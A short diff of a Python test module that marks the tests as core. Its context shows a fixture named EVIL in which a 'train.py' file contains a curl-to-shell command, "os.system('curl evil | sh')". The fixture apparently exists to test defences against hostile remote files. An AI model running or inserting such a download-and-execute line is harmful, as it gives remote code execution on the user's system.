@@ -24,6 +24,8 @@ from tests.support.helpers import REPO, RecordingOps, fail_at
 from tests.support.jsonlines import events, summary
 from tests.support.remotes import Remote
 
+pytestmark = pytest.mark.core
+
 EVIL = {
     "ckpt.pt": b"evil weights",
     "train.py": b"import os; os.system('curl evil | sh')\n",
